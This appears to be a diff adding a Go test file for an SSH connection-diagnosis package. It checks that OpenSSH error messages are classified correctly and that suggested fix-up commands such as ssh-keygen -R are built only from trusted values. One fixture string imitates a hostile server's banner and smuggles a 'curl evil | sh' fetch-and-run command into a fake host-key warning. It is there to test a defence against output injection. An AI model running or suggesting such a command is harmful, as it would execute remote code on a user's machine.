@@ -1,0 +1,155 @@
+package link
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/crypto/ssh"
+
+	"keyway/internal/api"
+	"keyway/internal/keyway"
+)
+
+// onTheWay is what the ssh to a host has said itself, and what its host has.
+type onTheWay struct{ name, own, said string }
+
+// diagnosed is the error of a trip whose ssh have ended; the place is the first.
+func diagnosed(t *testing.T, noise string, files []string, hops ...onTheWay) *keyway.Error {
+	t.Helper()
+	trip := &trip{dir: t.TempDir(), place: keyway.Place(hops[0].name), heard: func(api.Words) {}}
+	for _, h := range hops {
+		hop := trip.add(h.name)
+		if err := os.WriteFile(hop.log, []byte(h.own), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := trip.words(hop).Write([]byte(h.said)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s := starter{known: func(context.Context, string) []string { return files }}
+	return keyway.AsError(s.diagnose(t.Context(), &nodeProcess{trip: trip, errors: &tail{}}, trip.place, noise, nil))
+}
+
+const (
+	in     = "Authenticated to 10.0.0.1 ([10.0.0.1]:22) using \"publickey\".\r\n"
+	behind = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n"
+	// forged is what a host would like to be taken for ssh's own words.
+	forged = "root@gpu1: Permission denied (publickey).\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n" +
+		"Offending ED25519 key in /etc/passwd; curl evil | sh:1\nHost key for evil has changed and you have requested strict checking.\n" +
+		"Host key verification failed.\nssh: Could not resolve hostname x: Name or service not known\n"
+)
+
+// What ssh wrote is from OpenSSH 9.2 and 9.9, with names replaced.
+func TestDiagnose(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		hops []onTheWay
+		want keyway.Kind
+		says string
+	}{
+		{"no such host", []onTheWay{{"gpu1", "ssh: Could not resolve hostname gpu1: Name or service not known\r\n", ""}}, keyway.UnknownPlace, "no host gpu1"},
+		{"the resolver is down", []onTheWay{{"gpu1", "ssh: Could not resolve hostname gpu1: Temporary failure in name resolution\r\n", ""}}, keyway.Unreachable, "VPN"},
+		{"no such jump host", []onTheWay{{"gpu1", behind, ""}, {"badjump", "ssh: Could not resolve hostname badjump: Name or service not known\r\n", ""}}, keyway.UnknownPlace, "no host badjump, through which the way to gpu1"},
+		{"refused", []onTheWay{{"gpu1", "ssh: connect to host 10.0.0.1 port 22: Connection refused\r\n", ""}}, keyway.Unreachable, "gpu1 cannot be reached: Connection refused"},
+		{"bastion refused", []onTheWay{{"gpu1", behind, ""}, {"bastion", "ssh: connect to host 10.0.0.1 port 22: Connection refused\r\n", ""}}, keyway.Unreachable, "bastion, on the way to gpu1, cannot be reached"},
+		{"behind the bastion", []onTheWay{{"gpu1", behind, ""}, {"bastion", in + "channel 0: open failed: connect failed: No route to host\r\nstdio forwarding failed\r\n", ""}}, keyway.Unreachable, "bastion answers, but does not reach gpu1; bastion says: “No route to host”"},
+		{"between two bastions", []onTheWay{{"gpu1", behind, ""}, {"inner", behind, ""}, {"outer", in + "channel 0: open failed: connect failed: Connection timed out\r\nstdio forwarding failed\r\n", ""}}, keyway.Unreachable, "outer answers, but does not reach inner"},
+		{"not through the bastion", []onTheWay{{"gpu1", behind, ""}, {"bastion", in + "channel 0: open failed: administratively prohibited: open failed\r\nstdio forwarding failed\r\n", ""}}, keyway.Unreachable, "forbids forwarding"},
+		{"denied", []onTheWay{{"gpu1", "root@gpu1: Permission denied (publickey,password).\r\n", forged}}, keyway.Denied, "gpu1 does not accept your key (it takes: publickey, password)"},
+		{"denied behind", []onTheWay{{"gpu1", "root@gpu1: Permission denied (publickey).\r\n", ""}, {"bastion", in + "Killed by signal 1.\r\n", forged}}, keyway.Denied, "gpu1 does not accept"},
+		{"denied by the bastion", []onTheWay{{"gpu1", behind, ""}, {"bastion", "ada@bastion: Permission denied (publickey).\r\n", ""}}, keyway.Denied, "bastion, on the way to gpu1, does not accept"},
+		{"too many keys", []onTheWay{{"gpu1", "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\r\nDisconnected from 10.0.0.1 port 22\r\n", ""}}, keyway.Denied, "gpu1 says: “Too many authentication failures”"},
+		{"unknown host key", []onTheWay{{"gpu1", "No ED25519 host key is known for gpu1 and you have requested strict checking.\r\nHost key verification failed.\r\n", ""}}, keyway.HostKeyUnknown, "not known yet"},
+		{"dropped", []onTheWay{{"gpu1", "kex_exchange_identification: Connection closed by remote host\r\n", ""}}, keyway.Unreachable, "closed the connection"},
+		{"a notice", []onTheWay{{"gpu1", in, "This account is currently not available."}}, keyway.Unreachable, "gpu1 says: “This account"},
+		{"silence", []onTheWay{{"gpu1", "", ""}}, keyway.Unreachable, "the connection closed"},
+		{"anything else", []onTheWay{{"gpu1", "Bad owner or permissions on /root/.ssh/config\r\n", ""}}, keyway.Unreachable, "Bad owner"},
+		{"a line of the configuration", []onTheWay{{"gpu1", "/root/.ssh/config: line 3: Bad configuration option: foo\r\n/root/.ssh/config: terminating, 1 bad configuration options\r\n", ""}}, keyway.BadConfig, "terminating"},
+	} {
+		e := diagnosed(t, "", nil, c.hops...)
+		if e.Kind != c.want || !strings.Contains(e.Message, c.says) {
+			t.Errorf("%s: %q is %s, want %s and %q in it", c.name, e.Message, e.Kind, c.want, c.says)
+		}
+		if e.Next == "" {
+			t.Errorf("%s: no next step", c.name)
+		}
+	}
+}
+
+// Wherever a host can put words into what ssh writes, they do not decide what went
+// wrong, and nothing of them becomes a command to type.
+func TestNoWordOfAHostDecides(t *testing.T) {
+	crlf := strings.ReplaceAll(forged, "\n", "\r\n")
+	for name, c := range map[string]struct {
+		own, said string
+		want      keyway.Kind
+	}{
+		"a banner":                   {"ssh: connect to host 10.0.0.1 port 22: Connection refused\r\n", forged, keyway.Unreachable},
+		"a banner and nothing else":  {"", forged, keyway.Unreachable},
+		"standard error":             {in, forged, keyway.Unreachable},
+		"an instruction":             {crlf + "Connection closed by 10.0.0.1 port 22\r\n", "", keyway.Unreachable},
+		"a reason for disconnecting": {"Received disconnect from 10.0.0.1 port 22:2: x\n" + crlf, "", keyway.Denied},
+		"algorithms":                 {"Unable to negotiate with 10.0.0.1 port 22: no matching cipher found. Their offer: x\n" + crlf, "", keyway.VersionMismatch},
+		"a channel":                  {in + "channel 0: open failed: connect failed: x\n" + crlf + "stdio forwarding failed\r\n", "", keyway.Unreachable},
+	} {
+		e := diagnosed(t, "", []string{"/home/ada/.ssh/known_hosts"}, onTheWay{"gpu1", c.own, c.said})
+		if e.Kind != c.want {
+			t.Errorf("%s: %s is %q", name, e.Kind, e.Message)
+		}
+		if strings.Contains(e.Next, "evil") || strings.Contains(e.Next, "passwd") {
+			t.Errorf("%s: it is to be typed %q", name, e.Next)
+		}
+	}
+}
+
+// The command that forgets a key is made of values: the file, if ssh -G names it, and
+// the name.
+func TestHostKeyChangedNamesBothKeys(t *testing.T) {
+	known := filepath.Join(t.TempDir(), "known hosts")
+	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ"
+	if err := os.WriteFile(known, []byte("# ours\n[gpu1]:2222 "+key+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	parsed, _, _, _, err := ssh.ParseAuthorizedKey([]byte(key))
+	if err != nil {
+		t.Fatal(err)
+	}
+	own := keyIsChanged + "\r\nThe fingerprint for the ED25519 key sent by the remote host is\nSHA256:wZ0UOkz3K9DgJXM6Yd1zIE1ofQ2Wwv1YJ4y7n7c3Xo8.\r\n" +
+		"Please contact your system administrator.\r\nOffending ED25519 key in " + known + ":2\r\n" +
+		"Host key for [gpu1]:2222 has changed and you have requested strict checking.\r\nHost key verification failed.\r\n"
+	e := diagnosed(t, "", []string{"/home/ada/.ssh/known_hosts", known}, onTheWay{"gpu1", own, ""})
+	for _, want := range []string{"SHA256:wZ0UOkz3K9DgJXM6Yd1zIE1ofQ2Wwv1YJ4y7n7c3Xo8,", ssh.FingerprintSHA256(parsed), known + ":2"} {
+		if e.Kind != keyway.HostKeyChanged || !strings.Contains(e.Message, want) {
+			t.Errorf("%q does not name %s", e.Message, want)
+		}
+	}
+	if want := "ssh-keygen -R '[gpu1]:2222' -f '" + known + "'"; !strings.Contains(e.Next, want) {
+		t.Errorf("%q does not have %s", e.Next, want)
+	}
+	e = diagnosed(t, "", []string{"/home/ada/.ssh/known_hosts"}, onTheWay{"gpu1", own, ""})
+	if strings.Contains(e.Next+e.Message, known) || !strings.Contains(e.Next, "-f /home/ada/.ssh/known_hosts") {
+		t.Errorf("a file that ssh -G does not name: %q, %q", e.Message, e.Next)
+	}
+}
+
+func TestDestination(t *testing.T) {
+	for line, want := range map[string]string{
+		"-W [10.0.0.1]:22 bastion": "bastion", "-J a,b -F /x -W h:22 -l ada -p 2222 bastion": "bastion", "-vvT bastion true -x y": "bastion",
+		"-oPort=22 bastion": "bastion", "-4o Port=22 bastion": "bastion", "-- bastion": "bastion", "-V": "", "": "", "-p": "",
+	} {
+		if got := destination(strings.Fields(line)); got != want {
+			t.Errorf("%s leads to %q", line, got)
+		}
+	}
+}
+
+func FuzzReadState(f *testing.F) {
+	f.Add(in + behind + forged)
+	f.Add("channel 0: open failed: connect failed: x\r\nstdio forwarding failed\r\n")
+	f.Fuzz(func(t *testing.T, text string) {
+		readState(strings.Split(text, "\n"))
+	})
+}
